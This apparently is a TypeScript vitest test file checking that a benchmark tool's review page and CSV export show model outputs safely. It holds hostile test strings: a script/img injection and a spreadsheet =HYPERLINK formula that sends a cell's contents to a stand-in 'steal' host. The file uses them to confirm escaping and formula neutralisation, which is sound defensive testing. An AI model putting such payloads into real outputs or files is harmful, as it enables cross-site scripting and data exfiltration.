import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadOutputs, REPEAT_SEPARATOR } from '../../src/data/outputs.js';
import { csvRecords } from '../../src/data/read.js';
import { loadScores } from '../../src/data/scores.js';
import { reviewSample } from '../../src/decision/review.js';
import { reviewCsv, reviewPageHtml } from '../../src/decision/review-page.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/files.js';
import { checkInBrowser } from '../report/browser.js';

const OUTPUTS = 'examples/rotation/scores-2026Q3-outputs.csv';

/** A tiny scores file whose outputs try every trick: markup, an entity, quotes, a spreadsheet formula, a very long answer. */
function hostileScores(dir: string): { path: string; texts: Record<string, string> } {
  const texts = {
    alpha: '<script>document.title="owned"</script> & <img src="http://example.invalid/x.png"> "double" \'single\'',
    beta: '=HYPERLINK("http://example.invalid/steal?"&A1,"click me")',
    long: Array.from({ length: 200 }, (_, k) => `line ${k + 1} of a long answer`).join('\n'),
  };
  const rows = [
    { item: 'r1', model: 'alpha', stratum: 'rare', score: 1, output: texts.alpha },
    { item: 'r1', model: 'beta', stratum: 'rare', score: 0, output: texts.beta },
    { item: 'r2', model: 'alpha', stratum: 'rare', score: 1, output: texts.long },
    { item: 'r2', model: 'beta', stratum: 'rare', score: 1, output: '' },
  ];
  const path = join(dir, 'hostile.jsonl');
  writeFileSync(path, rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
  return { path, texts };
}

describe('loadOutputs', () => {
  it('reads the output column of CSV and JSONL; null without one; repeats joined', () => {
    const outputs = loadOutputs(OUTPUTS);
    expect(outputs?.get('alpha')?.get('e001')).toBe('Found: "Payment is due in full within 51 days after the invoice date."');
    expect(outputs?.get('beta')?.size).toBe(80);
    expect(loadOutputs('examples/rotation/scores-2026Q3.csv')).toBeNull();
    const dir = tempDir('benchplan-outputs-');
    const path = join(dir, 'rep.csv');
    writeFileSync(path, 'item,model,score,repeat,output\na,m,1,0,first\na,m,0,1,second\n');
    expect(loadOutputs(path)?.get('m')?.get('a')).toBe(`first${REPEAT_SEPARATOR}second`);
  });
});

describe('review shows each finalist\'s outputs', () => {
  it('the page and the CSV carry every finalist\'s output on every sampled item, with the gold label and item text', async () => {
    const dir = tempDir('benchplan-review-outputs-');
    const r = await runCli(['review', OUTPUTS, '--model', 'alpha', '--model', 'beta', '--strata', 'examples/strata.yaml', '--manifest', 'examples/manifest.yaml', '--per-stratum', '5', '-o', join(dir, 'review.html'), '--csv', join(dir, 'review.csv'), '--json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const sample = JSON.parse(r.stdout);
    const outputs = loadOutputs(OUTPUTS);
    const html = readFileSync(join(dir, 'review.html'), 'utf8');
    const csv = [...csvRecords([readFileSync(join(dir, 'review.csv'), 'utf8')], 'review.csv')].map((x) => x.fields);
    expect(csv[0]).toEqual(['sample_digest', 'stratum', 'item', 'gold', 'text', 'alpha_outcome', 'alpha_score', 'alpha_output', 'beta_outcome', 'beta_score', 'beta_output']);
    expect(sample.items).toHaveLength(10);
    for (const [k, x] of sample.items.entries()) {
      expect(x.gold).not.toBeNull();
      for (const o of x.outputs) {
        const text = outputs?.get(o.model)?.get(x.item) as string;
        expect(o.output).toBe(text);
        expect(html).toContain(text.replace(/&/g, '&amp;').replace(/"/g, '&quot;'));
      }
      expect(csv[k + 1][7]).toBe(x.outputs[0].output);
      expect(csv[k + 1][10]).toBe(x.outputs[1].output);
    }
    // The same draw as without outputs: the items are chosen by id and seed, not by what was answered.
    const plain = await runCli(['review', 'examples/rotation/scores-2026Q3.csv', '--model', 'alpha', '--model', 'beta', '--strata', 'examples/strata.yaml', '--per-stratum', '5', '-o', join(dir, 'plain.html'), '--json']);
    expect(JSON.parse(plain.stdout).items.map((x: { item: string }) => x.item)).toEqual(sample.items.map((x: { item: string }) => x.item));
  });

  it('escapes markup in the page and neutralises formulas in the CSV, and the CSV reads back to the very text', () => {
    const dir = tempDir('benchplan-review-hostile-');
    const { path, texts } = hostileScores(dir);
    const sample = reviewSample(loadScores(path), { finalists: ['alpha', 'beta'], strata: ['rare'], outputs: loadOutputs(path) ?? undefined });
    const html = reviewPageHtml(sample);
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;document.title=&quot;owned&quot;&lt;/script&gt; &amp; &lt;img src=&quot;http://example.invalid/x.png&quot;&gt; &quot;double&quot; &#39;single&#39;');
    expect(html).toContain('no output'); // beta's empty answer on r2
    const csvText = reviewCsv(sample);
    // A spreadsheet would run =HYPERLINK(…): the cell starts with ' instead.
    expect(csvText).toContain('"\'=HYPERLINK(""http://example.invalid/steal?""&A1,""click me"")"');
    expect(csvText).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const rows = [...csvRecords([csvText], 'review.csv')].map((x) => x.fields);
    // csvRecords gives the raw cells; the scores reader drops the one added quote (csvCellText).
    expect(rows[1][7]).toBe(texts.alpha);
    expect(rows[1][10]).toBe(`'${texts.beta}`);
    expect(rows[2][7]).toBe(texts.long);
  });

  it('in headless Chromium: the outputs show, whole, side by side, a long one in a cell that scrolls, with no script or request', async () => {
    const dir = tempDir('benchplan-review-outputs-browser-');
    const { path, texts } = hostileScores(dir);
    const page = join(dir, 'review.html');
    expect((await runCli(['review', path, '--model', 'alpha', '--model', 'beta', '--strata-to-review', 'rare', '-o', page])).code).toBe(0);
    const example = join(dir, 'example.html');
    expect((await runCli(['review', OUTPUTS, '--model', 'alpha', '--model', 'beta', '--strata', 'examples/strata.yaml', '--manifest', 'examples/manifest.yaml', '--per-stratum', '5', '-o', example])).code).toBe(0);
    const [hostile, bundled] = await checkInBrowser([page, example]);
    expect(hostile).toMatchObject({ title: 'Review sample: alpha, beta', scripts: 0, otherRequests: [], failedRequests: [], consoleErrors: [], pageErrors: [] });
    // r1: alpha, beta; r2: alpha (long), beta (no output: no box).
    expect(hostile.outputCells.map((c) => c.text)).toEqual([texts.alpha, texts.beta, texts.long, '']);
    expect(hostile.outputCells[0]).toMatchObject({ visible: true, scrolls: false });
    expect(hostile.outputCells[2]).toMatchObject({ visible: true, scrolls: true });
    expect(bundled).toMatchObject({ scripts: 0, otherRequests: [], consoleErrors: [], pageErrors: [] });
    expect(bundled.outputCells).toHaveLength(20);
    expect(bundled.outputCells.every((c) => c.visible && c.text.length > 0)).toBe(true);
  }, 120_000);
});

describe('review reads the answers from the tools\' files', () => {
  it('promptfoo: response.output of each result is shown for its provider and test', async () => {
    const dir = tempDir('benchplan-review-promptfoo-');
    const files = ['main', 'pr'].map((name) => {
      const doc = JSON.parse(readFileSync(`examples/promptfoo/${name}.json`, 'utf8'));
      for (const r of doc.results.results) r.response = { output: `<b>${name}</b> answer on ${r.vars.contract} ${r.vars.clause}` };
      const path = join(dir, `${name}.json`);
      writeFileSync(path, JSON.stringify(doc));
      return path;
    });
    const loaded = await runCli(['validate', files[0], '--json']);
    expect(loaded.code).toBe(0);
    const r = await runCli(['review', ...files, '--stratum-key', 'clause', '--strata-to-review', 'indemnity', '--model-name', `${files[0]}=main`, '--model-name', `${files[1]}=pr`, '--model', 'main', '--model', 'pr', '--per-stratum', '3', '-o', join(dir, 'review.html'), '--csv', join(dir, 'review.csv'), '--json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const sample = JSON.parse(r.stdout);
    expect(sample.items.length).toBeGreaterThan(0);
    for (const x of sample.items) {
      const contract = x.outputs[0].output.split(' ')[3];
      expect(x.outputs.map((o: { output: string }) => o.output)).toEqual([`<b>main</b> answer on ${contract} indemnity`, `<b>pr</b> answer on ${contract} indemnity`]);
    }
    const html = readFileSync(join(dir, 'review.html'), 'utf8');
    expect(html).toContain('&lt;b&gt;main&lt;/b&gt; answer on');
    expect(html).not.toContain('<b>main</b>');
  });
});

describe('the answers travel through loadResults only when asked', () => {
  it('lm-eval filtered_resps, Inspect output (completion, or the first choice\'s text), and nothing without keepOutputs', async () => {
    const { loadResults } = await import('../../src/import/load-results.js');
    const lm = ['examples/tools/lm-eval/pythia-160m', 'examples/tools/lm-eval/pythia-410m'];
    const withOutputs = loadResults(lm, { keepOutputs: true, filter: 'strict-match' });
    expect(withOutputs.outputs?.get('EleutherAI/pythia-160m')?.size).toBe(6);
    expect(loadResults(lm, { filter: 'strict-match' }).outputs).toBeNull();
    const dir = tempDir('benchplan-inspect-outputs-');
    const doc = JSON.parse(readFileSync('tests/fixtures/import/inspect/run-a.json', 'utf8'));
    doc.samples[0].output = { model: doc.eval.model, choices: [], completion: 'the completion <i>text</i>' };
    // The second answer on another item (samples[1] may be the same item's next epoch).
    const j = doc.samples.findIndex((x: { id: unknown }) => x.id !== doc.samples[0].id);
    doc.samples[j].output = { model: doc.eval.model, choices: [{ message: { role: 'assistant', content: [{ type: 'text', text: 'part one' }, { type: 'text', text: 'part two' }] } }] };
    const path = join(dir, 'run.json');
    writeFileSync(path, JSON.stringify(doc));
    const got = loadResults([path], { keepOutputs: true }).outputs?.get(doc.eval.model);
    const ids = [doc.samples[0].id, doc.samples[j].id].map(String);
    expect(got?.get(ids[0])).toBe('the completion <i>text</i>');
    expect(got?.get(ids[1])).toBe('part one\npart two');
  });
});
